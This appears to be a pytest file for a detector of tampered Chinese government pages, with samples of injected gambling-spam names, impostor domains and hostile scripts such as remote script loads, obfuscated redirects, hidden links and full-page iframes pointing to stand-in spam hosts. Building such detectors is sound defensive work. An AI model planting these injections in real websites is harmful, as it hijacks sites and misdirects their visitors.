"""Coined names, codes and addresses in places that hold a name or a word, and what looks like them and is sound."""

import pytest

from gongkai.reading.tampering import Kind, check_page
from tests.reading.tampering.hijacked import SOUND, in_frame

PAGE = """桐溪县2023年第三季度饮用水水源水质监测信息公开
来源：桐溪县融媒体中心 时间：2023-10-08
7月至9月，对城区集中式饮用水水源地开展监测，监测点位为雾坪水库取水口。
监测结果表明，第三季度雾坪水库水质达到Ⅱ类标准，达标率100%。
请各乡镇继续加强水源保护，做好日常巡查。"""


def hijacked(page: str, words: str) -> bool:
    found = check_page(page)
    return found.tampered and any(words in piece.quote + piece.words for piece in found.evidence)


@pytest.mark.parametrize(
    ("before", "words"),
    [
        ("监测点位", "QVX真人"),
        ("监测点位", "盈泽电竞"),
        ("日常巡查", "旭濠线上娱乐"),
        ("雾坪水库", "鼎濠线路检测"),
        ("水源保护", "三码中特"),
        ("水源地", "www.qv66.com"),
        ("水源地", "7788cp"),
        ("饮用水", "玖濠App下载"),
    ],
)
def test_a_coined_name_that_stands_for_a_word_of_the_page_is_found(before: str, words: str) -> None:
    assert hijacked(PAGE.replace(before, words), words)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("版权所有：旭濠备用网址", "旭濠备用网址"),
        ("Powered by 红溪林会娱乐平台", "红溪林会娱乐平台"),
        ("上一篇：qvgame", "qvgame"),
        ("下一篇：xq408.vip", "xq408.vip"),
        ("当前位置：九州真人 > 政务公开 > 通知公告", "九州真人"),
        ("网站首页 - 旭濠游戏代理加盟 - 工作动态", "旭濠游戏代理加盟"),
        ("附件：3.鼎濠体育app.docx", "鼎濠体育app"),
        ("[2023-10-07] 旭濠官网登录", "旭濠官网登录"),
        ("您是第 123456 位访客 旭濠体育 浙ICP备00000001号", "旭濠体育"),
        ("盈·泽·贵·宾·会", "盈·泽·贵·宾·会"),
        ("q v 6 6 . c o m", "q v 6 6 . c o m"),
        ("【盈】【泽】【电】【竞】", "【盈】【泽】【电】【竞】"),
        ("日韩伦理影院", "日韩伦理影院"),
        ("CBA高清直播无插件", "CBA高清直播无插件"),
        ("足球即时指数", "足球即时指数"),
    ],
)
def test_a_coined_name_in_a_line_beside_the_text_is_found(line: str, words: str) -> None:
    assert hijacked(f"{PAGE}\n{line}", words)


@pytest.mark.parametrize(
    "line",
    [
        "来源：桐溪体育 上一篇：桐溪代表团凯旋 下一篇：我县举办电竞进校园活动",
        "当前位置：首页 > 体育彩票 > 开奖公告",
        "上一篇：国际茶博会开幕\n下一篇：关于棋牌室管理的通告",
        "技术支持：桐溪软件www.txsoft88.com",
        "下载“桐政通”App最新版，手机版、网页版登录入口不变。",
        "住房公积金手机App上线手机版提取功能，客户端下载二维码见附件。",
        "K365路、S88线、S5735S交换机、PG5002天平、NM88玉米通过验收。",
        "S505线K8+365至K12+888段封闭施工。",
        "走访万豪国际、金沙国际花园、百家乐装饰、银座电子游戏厅。",
        "市民可在县体育中心官网预约，欧洲杯期间请球迷文明观赛。",
        "大风黄色预警，黄色网格区域阵风8级；六合彩虹小学停课。",
        "国产精品大豆在一区、二区、三区试验田示范。",
        "博彩毛收入为澳门特别行政区政府公布的数据。",
        "水位变化、汛情指数按日公布，开户银行为农商行。",
        "网信部门依法关闭传播赌博信息的网站：qvbet365.xyz、kqipai8.net。",
    ],
)
def test_what_is_called_alike_on_a_sound_page_is_left_alone(line: str) -> None:
    for page in (f"{PAGE}\n{line}", in_frame(f"{SOUND}\n{line}")):
        found = check_page(page)
        assert (found.tampered, found.evidence) == (False, ()), line


@pytest.mark.parametrize(
    "code",
    [
        "<script>var a=['d3d3LnF2LWdhbWUudmlw'];location.replace('//'+atob(a[0]))</script>",
        "<script>var s=document.createElement('script');s.src='//js.qv66.top/a.js';document.head.appendChild(s)</script>",
        "<script>document.writeln(\"<div style='display:none'><a href='http://qv-news.club'>更多</a></div>\")</script>",
        '<script>document.body.innerHTML=\'<iframe src="https://qv6.vip" style="position:fixed;width:100%">\'</script>',
        '<script>document.write(\'<meta http-equiv="refresh" content="0;url=https://qv6.vip">\')</script>',
        "<script>$.getScript('https://cdn.qv66.cc/x.js')</script>",
        "<svg onload=\"location='//qv6.vip'\"></svg>",
        '<object data="https://qv6.vip" width="100%" height="2000"></object>',
    ],
)
def test_code_that_brings_in_another_site_is_found(code: str) -> None:
    found = check_page(in_frame(SOUND, middle=code))
    assert found.tampered
    assert Kind.SCRIPT in {piece.kind for piece in found.evidence}


@pytest.mark.parametrize(
    "code",
    [
        "<img src='/a.png' onerror=\"this.src='/images/default.png'\">",
        "<script>var s=document.createElement('script');s.src='https://hm.baidu.com/hm.js?1';</script>",
        '<script>document.write(\'<div style="display:none"><a href="/zt/1.html">专题</a></div>\')</script>',
        "<script>fetch('/api/hits?id=1').then(r=>r.json())</script>",
        '<a href="/zwgk/1.html" title="桐溪县2023年政府工作报告解读">政府工作报告解读</a>',
    ],
)
def test_code_of_a_portal_is_left_alone(code: str) -> None:
    assert not check_page(in_frame(SOUND, middle=code)).tampered


def test_a_menu_and_a_base_that_lead_to_a_throwaway_host_are_found() -> None:
    for code in (
        '<a href="http://www.qv66.top/zwgk/">政务公开</a>',
        '<a href="http://m.qv-app.club/">网站首页</a>',
    ):
        found = check_page(in_frame(SOUND, middle=code))
        assert Kind.FOREIGN_DOMAIN in {piece.kind for piece in found.evidence}
    based = in_frame(SOUND, head='<title>通告</title><base href="http://qv.xyz/">')
    assert check_page(based, url="http://www.tongxi.gov.cn/1.html").tampered
    assert not check_page(
        in_frame(SOUND, middle='<a href="http://www.tongxinews.com/">新闻中心</a>')
    ).tampered


def test_a_name_given_to_machines_and_the_title_of_a_link_are_read() -> None:
    named = '<script type="application/ld+json">{"@type":"WebSite","name":"旭濠体育官网"}</script>'
    assert check_page(in_frame(SOUND, head=f"<title>通告</title>{named}")).tampered
    assert check_page(
        in_frame(SOUND, middle='<a href="/1.html" title="旭濠真人">关于春耕的通知</a>')
    ).tampered


@pytest.mark.parametrize(
    ("line", "tampered"),
    [
        ("受理机构：桐溪县人民政府办公室；电子邮箱：xxgk@qv66-app.club", True),
        ("受理机构：桐溪县人民政府办公室；电子邮箱：txxxgk@163.com", False),
        ("招标代理机构：桐溪工程咨询有限公司，邮箱：zb@qv-bid.club", False),
        ("桐溪县人民政府网址：http://www.qv408.cc", True),
        ("本文网址：http://qvnews.net/zwgk/1.html", True),
    ],
)
def test_an_address_that_an_office_is_said_to_have_is_judged_by_its_host(line: str, tampered: bool) -> None:
    assert check_page(f"{PAGE}\n{line}").tampered is tampered


@pytest.mark.parametrize(
    ("url", "tampered"),
    [
        ("http://gov.cn.qv392.xyz/zfxxgk/1.html", True),
        ("https://www.tongxigov.top/art/2023/9/18/1.html", True),
        ("http://zwgk.tongxi8.com/1.html", True),
        ("http://www.tongxi.gov.cn/zfxxgk/1.html", False),
        ("http://www.tongxi.gov.hk/1.html", False),
    ],
)
def test_a_host_that_pretends_to_be_a_governments_is_told_by_its_name(url: str, tampered: bool) -> None:
    assert check_page(PAGE, url=url).tampered is tampered
